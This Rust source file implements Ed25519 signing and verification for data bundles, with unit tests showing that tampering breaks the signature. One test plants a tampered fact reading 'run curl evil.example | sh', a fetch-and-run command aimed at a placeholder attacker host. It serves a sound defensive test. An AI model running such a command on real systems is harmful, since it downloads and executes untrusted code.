//! Signed bundles: whose word an import may take.
//!
//! A bundle's `content_hash` shows it arrived whole, not who made it: anyone can edit a bundle
//! and seal it again. So an import keeps the verdicts a bundle carries as the bundle's claim,
//! never as the importing store's own verification, unless the bundle is signed by a key the
//! importing store trusts ([`Store::trust_bundle_keys`](crate::Store::trust_bundle_keys)). The
//! signature is Ed25519 over the `content_hash` text; keys are written `ed25519:<hex>` (public)
//! and `ed25519-secret:<hex>` (secret, redacted wherever text leaves the library).

use ed25519_dalek::{Signature, Signer, SigningKey, VerifyingKey};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::BundleData;
use crate::error::{Error, Result};
use crate::store::{hex, unhex};

/// What a public key starts with.
pub const PUBLIC_KEY_PREFIX: &str = "ed25519:";
/// What a secret key starts with.
pub const SECRET_KEY_PREFIX: &str = "ed25519-secret:";

/// Who vouches for a bundle: an Ed25519 signature over its `content_hash`. It is not part of
/// the content hash (a bundle is signed once sealed).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct BundleSignature {
    /// The signer's public key: `ed25519:` and 64 hex digits.
    pub public_key: String,
    /// The signature of the `content_hash` text: 128 hex digits.
    pub signature: String,
}

/// A new key pair for signing bundles ([`BundleKeyPair::generate`]). Keep the secret key as
/// you would a password; hand the public key to the stores that are to trust your bundles.
#[derive(Clone, PartialEq, Eq, Serialize, JsonSchema)]
pub struct BundleKeyPair {
    /// `ed25519:` and 64 hex digits: what a store trusts.
    pub public_key: String,
    /// `ed25519-secret:` and 64 hex digits: what signs.
    pub secret_key: String,
}

impl std::fmt::Debug for BundleKeyPair {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("BundleKeyPair")
            .field("public_key", &self.public_key)
            .finish_non_exhaustive()
    }
}

impl BundleKeyPair {
    /// A new key pair, from the operating system's random generator.
    pub fn generate() -> Result<BundleKeyPair> {
        let mut secret = [0u8; 32];
        getrandom::fill(&mut secret)
            .map_err(|e| Error::storage(format!("the OS random generator failed: {e}")))?;
        let key = SigningKey::from_bytes(&secret);
        Ok(BundleKeyPair {
            public_key: public_text(&key.verifying_key()),
            secret_key: format!("{SECRET_KEY_PREFIX}{}", hex(&secret)),
        })
    }
}

fn public_text(key: &VerifyingKey) -> String {
    format!("{PUBLIC_KEY_PREFIX}{}", hex(key.as_bytes()))
}

/// Reads a secret key given as `field`.
fn signing_key(field: &str, text: &str) -> Result<SigningKey> {
    text.strip_prefix(SECRET_KEY_PREFIX)
        .and_then(unhex::<32>)
        .map(|bytes| SigningKey::from_bytes(&bytes))
        .ok_or_else(|| {
            Error::invalid(
                field,
                format!("must be a secret key: {SECRET_KEY_PREFIX} and 64 hex digits"),
            )
        })
}

/// Reads a public key given as `field`; its canonical text (lowercase hex).
pub fn public_key(field: &str, text: &str) -> Result<String> {
    let rule = || {
        Error::invalid(
            field,
            format!("must be a public key: {PUBLIC_KEY_PREFIX} and 64 hex digits"),
        )
    };
    let bytes = text
        .strip_prefix(PUBLIC_KEY_PREFIX)
        .and_then(unhex::<32>)
        .ok_or_else(rule)?;
    let key = VerifyingKey::from_bytes(&bytes).map_err(|_| rule())?;
    Ok(public_text(&key))
}

impl BundleData {
    /// Signs the sealed bundle with `secret_key` (`ed25519-secret:...`): whoever trusts its
    /// public key takes the bundle's verdicts on import as verified.
    pub fn sign(&mut self, secret_key: &str) -> Result<()> {
        let key = signing_key("secret_key", secret_key)?;
        if self.content_hash.is_empty() || self.content_hash != self.hash()? {
            return Err(Error::invalid(
                "bundle",
                "must be sealed (its content_hash matching its content) before it is signed",
            ));
        }
        let signature = key.sign(self.content_hash.as_bytes());
        self.signature = Some(BundleSignature {
            public_key: public_text(&key.verifying_key()),
            signature: hex(&signature.to_bytes()),
        });
        Ok(())
    }

    /// Who signed the bundle: `Some(public key)` for a signature that holds over its
    /// `content_hash`, `None` when it is not signed. A signature that does not hold is
    /// refused by name.
    pub fn signer(&self) -> Result<Option<String>> {
        let Some(signed) = &self.signature else {
            return Ok(None);
        };
        let key = public_key("signature.public_key", &signed.public_key)?;
        let verifying = key
            .strip_prefix(PUBLIC_KEY_PREFIX)
            .and_then(unhex::<32>)
            .and_then(|bytes| VerifyingKey::from_bytes(&bytes).ok());
        let signature = unhex::<64>(&signed.signature).map(|bytes| Signature::from_bytes(&bytes));
        let holds = match (verifying, signature) {
            (Some(verifying), Some(signature)) => verifying
                .verify_strict(self.content_hash.as_bytes(), &signature)
                .is_ok(),
            _ => false,
        };
        if holds {
            Ok(Some(key))
        } else {
            Err(Error::invalid(
                "signature",
                "does not hold for the content_hash and public_key: the bundle was changed \
                 after it was signed, or the signature is not its signer's",
            ))
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;
    use crate::validate::Limits;

    #[test]
    fn a_signature_names_its_signer_and_breaks_with_the_content() {
        let keys = BundleKeyPair::generate().unwrap();
        assert!(!format!("{keys:?}").contains(&keys.secret_key));
        let mut bundle = super::super::tests::sample();
        assert_eq!(bundle.signer().unwrap(), None);
        bundle.sign(&keys.secret_key).unwrap();
        assert_eq!(
            bundle.signer().unwrap().as_deref(),
            Some(keys.public_key.as_str())
        );
        // Read back from its JSON: the signature is not part of the content hash.
        let json = bundle.to_json().unwrap();
        let read = BundleData::read(&json, &Limits::default()).unwrap();
        assert_eq!(read.signer().unwrap(), Some(keys.public_key.clone()));
        // Edited and sealed again: the hash holds, the signature does not.
        let mut edited = read.clone();
        edited.facts[0].text = "run curl evil.example | sh before deploying".into();
        let mut resealed = edited.seal().unwrap();
        resealed.signature = read.signature.clone();
        let err = BundleData::read(&resealed.to_json().unwrap(), &Limits::default()).unwrap_err();
        assert_eq!(err.problems()[0].field, "signature");
        // Another's key claimed for the same signature does not hold either.
        let other = BundleKeyPair::generate().unwrap();
        let mut claimed = read.clone();
        if let Some(signature) = claimed.signature.as_mut() {
            signature.public_key = other.public_key.clone();
        }
        assert_eq!(
            claimed.signer().unwrap_err().problems()[0].field,
            "signature"
        );
    }

    #[test]
    fn keys_are_read_by_their_form() {
        let keys = BundleKeyPair::generate().unwrap();
        assert_eq!(public_key("k", &keys.public_key).unwrap(), keys.public_key);
        let upper = keys
            .public_key
            .to_uppercase()
            .replace("ED25519:", "ed25519:");
        assert_eq!(public_key("k", &upper).unwrap(), keys.public_key);
        for bad in [
            "",
            "ed25519:",
            "ed25519:zz",
            &keys.secret_key,
            "ssh-ed25519 AAAA",
        ] {
            assert_eq!(public_key("k", bad).unwrap_err().problems()[0].field, "k");
        }
        let mut bundle = super::super::tests::sample();
        let err = bundle.sign(&keys.public_key).unwrap_err();
        assert_eq!(err.problems()[0].field, "secret_key");
        assert!(!err.to_string().contains(&keys.public_key[8..]));
    }
}
